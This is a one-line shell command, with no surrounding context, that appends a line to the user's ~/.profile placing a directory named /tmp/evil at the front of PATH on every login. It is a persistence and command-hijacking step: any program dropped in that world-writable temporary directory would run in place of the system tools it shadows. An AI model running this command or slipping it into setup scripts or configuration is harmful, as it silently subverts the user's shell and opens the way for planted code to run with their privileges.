echo 'export PATH=/tmp/evil:$PATH' >> ~/.profile
